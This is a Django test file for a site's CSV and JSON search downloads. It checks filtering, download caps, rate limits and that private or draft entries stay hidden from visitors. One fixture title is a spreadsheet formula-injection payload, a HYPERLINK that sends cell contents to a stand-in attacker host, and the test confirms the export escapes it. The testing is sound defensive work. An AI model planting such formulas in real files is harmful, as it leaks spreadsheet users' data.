"""Download any search as CSV or JSON: the interchange format, what the reader may see."""

import csv
import io
import json

from django.contrib.auth.models import Group
from django.core.cache import cache
from django.test import TestCase, override_settings

from practices.importing.spreadsheet import COLUMNS
from practices.models import KeyTheme
from tests.factories import PracticePageFactory, UserFactory
from tests.leaks import SECRET_CONTACT, LeakFixtures


class DownloadTests(LeakFixtures, TestCase):
    @classmethod
    def setUpTestData(cls):
        cls.create_leak_fixtures()
        # Two themes no other practice here has, to filter on.
        taken = KeyTheme.objects.filter(practices__isnull=False)
        cls.themes = list(KeyTheme.objects.exclude(pk__in=taken).order_by("pk")[:2])
        cls.tricky = PracticePageFactory(
            title='=HYPERLINK("http://evil.example/?"&A2)',
            parent=cls.leak_city,
            contact_email="open@team.example",
            contact_consent=True,
        )
        cls.tricky.key_themes.set(cls.themes)
        cls.tricky.save_revision().publish()
        cls.member = UserFactory(username="member")
        cls.member.groups.set([Group.objects.get(name="Members")])

    def setUp(self):
        # Answers are kept per collection state, and some tests change the settings.
        cache.clear()

    def rows(self, **query):
        response = self.client.get("/practices/", {**query, "format": "csv"})
        self.assertEqual(response["Content-Type"], "text/csv; charset=utf-8")
        self.assertIn('filename="practices.csv"', response["Content-Disposition"])
        return list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))

    def records(self, **query):
        response = self.client.get("/practices/", {**query, "format": "json"})
        self.assertEqual(response["Content-Type"], "application/json")
        return json.loads(response.content)

    def test_the_search_page_offers_both_downloads_of_the_same_search(self):
        page = self.client.get("/practices/", {"theme": self.themes[0].slug})
        self.assertContains(page, f"?theme={self.themes[0].slug}&amp;format=csv")
        self.assertContains(page, f"?theme={self.themes[0].slug}&amp;format=json")

    def test_csv_is_the_import_layout_with_every_result_and_quoted_formulas(self):
        rows = self.rows()
        self.assertEqual(list(rows[0].keys()), [*COLUMNS, "url"])
        titles = {row["title"] for row in rows}
        self.assertEqual(
            titles, {"Openly listed practice", '\'=HYPERLINK("http://evil.example/?"&A2)'}
        )
        tricky = next(row for row in rows if "HYPERLINK" in row["title"])
        self.assertEqual(tricky["key_themes"], " | ".join(t.label for t in self.themes))
        self.assertEqual(tricky["contact.email"], "open@team.example")
        self.assertEqual(tricky["url"], self.tricky.full_url)
        # The filters apply: only the practice with the theme.
        filtered = self.rows(theme=self.themes[0].slug)
        self.assertEqual([row["page_id"] for row in filtered], [str(self.tricky.pk)])

    def test_json_is_a_list_of_interchange_records(self):
        records = self.records(theme=self.themes[0].slug)
        (record,) = records
        self.assertEqual(record["page_id"], self.tricky.pk)
        self.assertEqual(record["title"], self.tricky.title)  # JSON needs no quoting
        self.assertEqual(record["key_themes"], [t.label for t in self.themes])
        self.assertEqual(record["contact"]["email"], "open@team.example")

    @override_settings(PRACTICE_DOWNLOAD_MAX=1)
    def test_a_download_holds_at_most_the_cap(self):
        self.assertEqual(len(self.records()), 1)

    def test_downloads_leak_nothing_to_visitors(self):
        for export in ("csv", "json"):
            with self.subTest(export=export):
                response = self.client.get("/practices/", {"format": export})
                self.assert_nothing_leaked(response.content)
                words = self.client.get("/practices/", {"format": export, "q": "zebra walrus"})
                self.assert_nothing_leaked(words.content)

    def test_members_get_members_only_practices_and_unconsented_contacts(self):
        self.client.force_login(self.member)
        records = {record["title"]: record for record in self.records()}
        self.assertIn("Members-only practice zebra", records)
        self.assertNotIn("Draft practice walrus", records)
        self.assertNotIn("Archived practice narwhal", records)
        self.assertEqual(records["Openly listed practice"]["contact"]["email"], SECRET_CONTACT)
        self.client.logout()
        records = {record["title"]: record for record in self.records()}
        self.assertEqual(records["Openly listed practice"]["contact"]["email"], "")

    @override_settings(PRACTICE_DOWNLOADS_PER_VISITOR=2)
    def test_one_client_may_download_a_few_times_in_a_while(self):
        cache.clear()
        statuses = [
            self.client.get("/practices/", {"format": "json"}).status_code for _ in range(4)
        ]
        self.assertEqual(statuses, [200, 200, 429, 429])
        refused = self.client.get("/practices/", {"format": "csv"})
        self.assertContains(refused, "Too many downloads from here", status_code=429)
        self.assertIn("Retry-After", refused)
        other = self.client.get("/practices/", {"format": "csv"}, REMOTE_ADDR="10.0.0.9")
        self.assertEqual(other.status_code, 200)  # another client is not held back
        self.assertEqual(self.client.get("/practices/").status_code, 200)  # the page itself is not

    def test_an_unknown_format_is_the_search_page(self):
        response = self.client.get("/practices/", {"format": "xml"})
        self.assertEqual(response.status_code, 200)
        self.assertContains(response, "Download these results")
